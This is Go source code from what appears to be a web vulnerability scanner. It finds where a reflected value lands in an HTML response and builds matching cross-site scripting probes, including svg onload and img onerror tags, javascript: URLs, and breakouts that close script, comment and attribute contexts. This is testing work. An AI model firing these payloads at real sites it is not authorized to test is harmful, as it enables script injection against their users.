package injection

import (
	"bytes"
	"mime"
	"strings"

	"golang.org/x/net/html"

	"github.com/atelier-studio/atelier/agents/wire"
)

// context is where in a document a value stands.
type spot struct {
	kind  spotKind
	quote byte   // around an attribute's value or a script's text; 0: none
	tag   string // of an element whose content is no markup
}

type spotKind int

const (
	inText spotKind = iota
	inRaw           // the content of textarea, title, style, …
	inScript
	inAttribute
	inAddress // an attribute's value begins with it, and is an address
	inHandler // a script in an attribute
	inComment
)

// isMarkup tells whether a browser would draw an answer as a document.
func isMarkup(x *wire.Exchange) bool {
	header := x.Header.Get("Content-Type")
	if header == "" {
		return !strings.EqualFold(x.Header.Get("X-Content-Type-Options"), "nosniff") && bytes.Contains(bytes.ToLower(x.Body[:min(len(x.Body), 1024)]), []byte("<"))
	}
	kind, _, err := mime.ParseMediaType(header)
	return err == nil && (kind == "text/html" || kind == "application/xhtml+xml" || kind == "image/svg+xml")
}

// maxSpots bounds how often a word is looked for in a document.
const maxSpots = 12

// spots says where a word stands in a document, every sort of place once.
func spots(body []byte, word string) []spot {
	var list []spot
	seen := map[spot]bool{}
	add := func(s spot) {
		if !seen[s] && len(list) < maxSpots {
			seen[s] = true
			list = append(list, s)
		}
	}
	z := html.NewTokenizer(bytes.NewReader(body))
	z.SetMaxBuf(1 << 20)
	raw := ""
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			return list
		}
		text := string(z.Raw())
		if kind == html.StartTagToken {
			raw = rawElement(text)
		}
		if !strings.Contains(text, word) {
			if kind == html.EndTagToken {
				raw = ""
			}
			continue
		}
		switch kind {
		case html.TextToken:
			switch raw {
			case "":
				add(spot{kind: inText})
			case "script":
				add(spot{kind: inScript, quote: quoteOf(text[:strings.Index(text, word)])})
			default:
				add(spot{kind: inRaw, tag: raw})
			}
		case html.CommentToken:
			add(spot{kind: inComment})
		case html.StartTagToken, html.SelfClosingTagToken:
			add(attributeSpot(z, text, word))
		default:
		}
	}
}

// rawElement names an element whose content is text only.
func rawElement(tag string) string {
	name, _, _ := strings.Cut(strings.Trim(strings.ToLower(tag), "<>/"), " ")
	switch name {
	case "script", "style", "textarea", "title", "iframe", "noembed", "noframes", "xmp", "noscript":
		return name
	}
	return ""
}

// attributeSpot says how a word stands in a tag.
func attributeSpot(z *html.Tokenizer, text, word string) spot {
	before := text[:strings.Index(text, word)]
	s := spot{kind: inAttribute}
	if i := strings.LastIndexByte(before, '='); i >= 0 {
		if rest := strings.TrimLeft(before[i+1:], " \t\n"); rest != "" && (rest[0] == '"' || rest[0] == '\'') {
			s.quote = rest[0]
		}
	}
	for {
		key, value, more := z.TagAttr()
		if strings.Contains(string(value), word) {
			name := string(key)
			switch {
			case strings.HasPrefix(name, "on"):
				s.kind = inHandler
			case strings.HasPrefix(strings.TrimSpace(string(value)), word) && (name == "href" || name == "src" || name == "action" || name == "formaction" || name == "data"):
				s.kind = inAddress
			}
			return s
		}
		if !more {
			return s
		}
	}
}

// quoteOf is the quote of the text that a script is in at its end; 0: none.
func quoteOf(script string) byte {
	var open byte
	for i := 0; i < len(script); i++ {
		switch c := script[i]; {
		case open != 0 && c == '\\':
			i++
		case open != 0 && c == open, open != 0 && open != '`' && c == '\n':
			open = 0
		case open == 0 && (c == '"' || c == '\'' || c == '`'):
			open = c
		case open == 0 && strings.HasPrefix(script[i:], "//"):
			end := strings.IndexByte(script[i:], '\n')
			if end < 0 {
				return 0
			}
			i += end
		}
	}
	return open
}

// scripts are values that run a script where s is, the likeliest first.
func scripts(s spot) []string {
	const call = "alert(" + product + ")"
	const tag, focus = "<svg onload=" + call + ">", " autofocus tabindex=1 onfocus=" + call + " x="
	quote := ""
	if s.quote != 0 {
		quote = string(s.quote)
	}
	switch s.kind {
	case inText:
		return []string{tag, "<img src=x onerror=" + call + ">"}
	case inRaw:
		return []string{"</" + s.tag + ">" + tag}
	case inComment:
		return []string{"-->" + tag}
	case inAddress:
		return []string{"javascript:" + call + "//", quote + ">" + tag, quote + focus + quote}
	case inAttribute:
		return []string{quote + ">" + tag, quote + focus + quote}
	case inHandler:
		return []string{"'-" + call + "-'", `"-` + call + `-"`, call, quote + ">" + tag}
	default: // inScript
		switch s.quote {
		case '`':
			return []string{"${" + call + "}", "</script>" + tag}
		case 0:
			return []string{call, "</script>" + tag}
		}
		return []string{quote + "-" + call + "-" + quote, "</script>" + tag, `\` + quote + "-" + call + "//"}
	}
}
